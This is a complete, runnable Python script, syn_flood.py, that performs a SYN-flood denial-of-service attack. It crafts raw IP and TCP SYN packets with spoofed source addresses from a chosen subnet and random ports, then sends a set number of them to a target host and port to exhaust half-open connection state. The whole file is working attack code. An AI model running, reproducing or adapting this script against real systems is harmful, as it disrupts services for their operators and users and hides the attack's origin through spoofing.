#!/usr/bin/env python3
"""syn_flood.py — a bounded SYN flood over a raw socket: COUNT SYNs to DST:PORT from spoofed
addresses SRC_NET.10-250 and random ports (so SYN-ACKs go nowhere and half-open state piles up).
Usage: syn_flood.py DST PORT SRC_NET_PREFIX COUNT (e.g. 10.30.0 for 10.30.0.x)."""
import random
import socket
import struct
import sys


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int, seq: int) -> bytes:
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 65535, 0, 0)
    pseudo = s + d + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, s, d)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main() -> int:
    dst, port, net, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    rnd = random.Random(1234)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    for _ in range(count):
        src = "%s.%d" % (net, rnd.randint(10, 250))
        sock.sendto(syn(src, dst, rnd.randint(1024, 65535), port, rnd.getrandbits(32)), (dst, 0))
    print("sent %d SYNs" % count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
